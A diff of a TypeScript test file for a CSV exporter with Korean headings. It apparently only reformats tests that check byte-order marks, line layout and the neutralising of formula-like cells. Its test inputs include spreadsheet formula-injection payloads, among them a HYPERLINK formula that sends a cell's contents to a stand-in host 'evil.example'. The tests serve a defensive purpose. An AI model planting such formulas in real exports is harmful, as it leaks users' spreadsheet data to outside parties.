@@ -14,19 +14,30 @@ const cellsOf = (over: Partial<Row>): readonly string[] => linesOfCsv(csvOf(colu
 
 describe('a collection as CSV', () => {
   it('has a byte-order mark, headings, and a line a record', () => {
-    expect(csvOf(columns, [row(), row({ name: '김철수', note: '부재' })])).toBe('\uFEFF"이름","비고"\r\n"홍길동",""\r\n"김철수","부재"\r\n')
+    expect(csvOf(columns, [row(), row({ name: '김철수', note: '부재' })])).toBe(
+      '\uFEFF"이름","비고"\r\n"홍길동",""\r\n"김철수","부재"\r\n',
+    )
   })
 
   it('of nothing is its headings', () => {
     expect(csvOf(columns, [])).toBe('\uFEFF"이름","비고"\r\n')
   })
 
-  it.each(['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
-    'runs no cell as a formula: %j',
-    (name) => {
-      expect(csvOf(columns, [row({ name })])).toContain(`"'${name.replaceAll('"', '""')}"`)
-    },
-  )
+  it.each([
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+  ])('runs no cell as a formula: %j', (name) => {
+    expect(csvOf(columns, [row({ name })])).toContain(`"'${name.replaceAll('"', '""')}"`)
+  })
 
   it('runs no heading as a formula either', () => {
     expect(csvOf([{ title: '=1+1', text: ({ name }: Row) => name }], [])).toContain(`"'=1+1"`)
